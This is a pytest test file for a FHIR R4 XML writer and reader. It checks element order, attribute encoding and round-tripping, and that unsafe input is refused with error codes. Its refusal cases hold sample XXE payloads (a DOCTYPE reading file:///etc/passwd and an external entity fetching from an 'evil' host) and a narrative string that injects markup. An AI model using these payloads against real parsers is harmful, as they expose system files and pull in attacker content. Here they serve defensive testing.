"""FHIR XML (R4 rules): what the writer produces, what the reader accepts, and what it refuses with a clear code."""

import pytest
from lxml import etree

from mappings.engine import MappingError
from mappings.engine.formats import parse, serialize

NS = {"f": "http://hl7.org/fhir", "x": "http://www.w3.org/1999/xhtml"}
DIV = '<div xmlns="http://www.w3.org/1999/xhtml"><p>A <b>bold</b> move</p></div>'
PATIENT = {
    # JSON order differs from the definition's on purpose: XML follows the definition
    "gender": "female",
    "resourceType": "Patient",
    "id": "p1",
    "name": [
        {
            "family": "Chalmers",
            "given": ["Peter", None],
            "_given": [None, {"id": "g2", "extension": [{"url": "http://example.org/initial", "valueString": "J"}]}],
        }
    ],
    "birthDate": "1974-12-25",
    "_birthDate": {
        "extension": [
            {
                "url": "http://hl7.org/fhir/StructureDefinition/patient-birthTime",
                "valueDateTime": "1974-12-25T14:35:45-05:00",
            }
        ]
    },
    "active": True,
    "multipleBirthInteger": 2,
    "text": {"status": "generated", "div": DIV},
    "contained": [{"resourceType": "Organization", "id": "org", "name": "Acme"}],
    "managingOrganization": {"reference": "#org", "id": "ref1"},
}


def xml_of(resource: dict) -> etree._Element:
    return etree.fromstring(serialize(resource, "xml").encode())


def test_it_writes_elements_in_the_definitions_order_in_the_fhir_namespace() -> None:
    root = xml_of(PATIENT)
    assert root.tag == "{http://hl7.org/fhir}Patient"
    names = [etree.QName(child).localname for child in root]
    assert names == [
        "id",
        "text",
        "contained",
        "active",
        "name",
        "gender",
        "birthDate",
        "multipleBirthInteger",
        "managingOrganization",
    ]


def test_it_writes_primitives_as_value_attributes_typed_as_json_had_them() -> None:
    root = xml_of(PATIENT)
    assert root.find("f:active", NS).get("value") == "true"
    assert root.find("f:multipleBirthInteger", NS).get("value") == "2"
    assert root.find("f:birthDate", NS).get("value") == "1974-12-25"
    back = parse(serialize(PATIENT, "xml"), "xml")
    assert back["active"] is True
    assert back["multipleBirthInteger"] == 2


def test_it_writes_ids_and_extension_urls_as_attributes() -> None:
    root = xml_of(PATIENT)
    assert root.find("f:managingOrganization", NS).get("id") == "ref1"
    given = root.findall("f:name/f:given", NS)
    assert [g.get("value") for g in given] == ["Peter", None]
    assert given[1].get("id") == "g2"
    assert given[1].find("f:extension", NS).get("url") == "http://example.org/initial"


def test_it_wraps_contained_resources_in_their_type_and_embeds_the_narrative_as_xhtml() -> None:
    root = xml_of(PATIENT)
    assert root.find("f:contained/f:Organization/f:name", NS).get("value") == "Acme"
    assert root.find("f:text/x:div/x:p/x:b", NS).text == "bold"


def test_it_reads_back_exactly_what_it_wrote_pretty_or_not() -> None:
    for pretty in (False, True):
        back = parse(serialize(PATIENT, "xml", pretty=pretty), "xml")
        assert back == PATIENT
        assert back["text"]["div"] == DIV


def test_it_reads_nested_resources_of_bundles_and_parameters() -> None:
    bundle = {
        "resourceType": "Bundle",
        "type": "collection",
        "entry": [
            {
                "fullUrl": "urn:uuid:1",
                "resource": {
                    "resourceType": "Parameters",
                    "parameter": [{"name": "r", "resource": {"resourceType": "Patient", "id": "x"}}],
                },
            }
        ],
    }
    text = serialize(bundle, "xml")
    assert '<entry><fullUrl value="urn:uuid:1"/><resource><Parameters>' in text
    assert parse(text, "xml") == bundle


@pytest.mark.parametrize(
    ("document", "code"),
    [
        (
            '<!DOCTYPE Patient [<!ENTITY x "boom">]><Patient xmlns="http://hl7.org/fhir"><id value="&x;"/></Patient>',
            "FS-SRC-031",
        ),
        ('<!DOCTYPE Patient SYSTEM "file:///etc/passwd"><Patient xmlns="http://hl7.org/fhir"/>', "FS-SRC-031"),
        ('<?xml version="1.0"?>\n<!-- c --><!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil/">%p;]><x/>', "FS-SRC-031"),
        ('<Patient xmlns="http://hl7.org/fhir"><id value="x"></Patient>', "FS-SRC-030"),
        ('<Patient xmlns="http://hl7.org/fhir"><nickname value="x"/></Patient>', "FS-SRC-050"),
        ('<Patient><id value="x"/></Patient>', "FS-SRC-050"),
        ('<Basic xmlns="http://hl7.org/fhir"><code><text value="x"/></code><created value="soon"/></Basic>', None),
        ('<Patient xmlns="http://hl7.org/fhir"><active value="yes"/></Patient>', "FS-SRC-050"),
        ('<Patient xmlns="http://hl7.org/fhir"><active value="true"/><active value="false"/></Patient>', "FS-SRC-050"),
        ('<Nonsense xmlns="http://hl7.org/fhir"/>', "FS-SRC-050"),
        ('<Patient xmlns="http://hl7.org/fhir">text<id value="x"/></Patient>', "FS-SRC-050"),
    ],
)
def test_it_refuses_what_is_not_safe_or_not_fhir_with_a_code(document: str, code: str | None) -> None:
    if code is None:  # a date's text is not checked here: that is the validator's job, the value is kept as is
        assert parse(document, "xml")["created"] == "soon"
        return
    with pytest.raises(MappingError) as caught:
        parse(document, "xml")
    assert caught.value.code == code
    assert caught.value.message


def test_it_names_the_unknown_element_it_refuses() -> None:
    with pytest.raises(MappingError, match="nickname"):
        parse('<Patient xmlns="http://hl7.org/fhir"><nickname value="x"/></Patient>', "xml")


@pytest.mark.parametrize(
    ("resource", "fragment"),
    [
        ({"resourceType": "Patient", "nickname": "Jim"}, "nickname"),
        ({"resourceType": "Patient", "name": {"family": "x"}}, "array"),
        ({"resourceType": "Patient", "active": [True]}, "single"),
        ({"resourceType": "Patient", "text": {"status": "generated", "div": "<div>no namespace</div>"}}, "xhtml"),
        (
            {
                "resourceType": "Patient",
                "text": {"status": "generated", "div": "<div xmlns='http://www.w3.org/1999/xhtml'>unclosed"},
            },
            "XHTML",
        ),
        ({"resourceType": "Unicorn"}, "Unicorn"),
        ({"id": "x"}, "None"),
    ],
)
def test_it_refuses_to_write_what_it_would_have_to_drop(resource: dict, fragment: str) -> None:
    with pytest.raises(MappingError) as caught:
        serialize(resource, "xml")
    assert caught.value.code in ("FS-SRC-050", "FS-SRC-030")
    assert fragment in caught.value.message


def test_it_never_pastes_a_narrative_into_the_document_as_markup() -> None:
    hostile = '<div xmlns="http://www.w3.org/1999/xhtml">x</div></text><active value="true"/><text><div>'
    with pytest.raises(MappingError):
        serialize({"resourceType": "Patient", "text": {"status": "generated", "div": hostile}}, "xml")


def test_it_reads_spec_style_documents_with_schema_locations_and_comments() -> None:
    document = """<?xml version="1.0" encoding="UTF-8"?>
    <!-- an example as the FHIR specification publishes them -->
    <Patient xmlns="http://hl7.org/fhir" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
             xsi:schemaLocation="http://hl7.org/fhir ../../schema/patient.xsd">
      <id value="example"/>
      <text><status value="generated"/><div xmlns="http://www.w3.org/1999/xhtml"><p>Hi</p></div></text>
      <!-- a comment between elements -->
      <active value="true"/>
    </Patient>"""
    patient = parse(document.encode(), "xml")
    # the narrative keeps only the namespace it uses, not the document's xsi declaration
    assert patient == {
        "resourceType": "Patient",
        "id": "example",
        "text": {"status": "generated", "div": '<div xmlns="http://www.w3.org/1999/xhtml"><p>Hi</p></div>'},
        "active": True,
    }


def test_it_refuses_a_resource_nested_deeper_than_it_can_walk_with_a_clear_error() -> None:
    basic: dict = {"resourceType": "Basic", "code": {"text": "deep"}}
    node = basic
    for _ in range(2000):  # extensions of extensions: valid FHIR shape, nested past Python's recursion limit
        inner = {"url": "http://example.org/nested"}
        node["extension"] = [inner]
        node = inner
    node["valueString"] = "bottom"
    with pytest.raises(MappingError, match="nested too deeply"):
        serialize(basic, "xml")
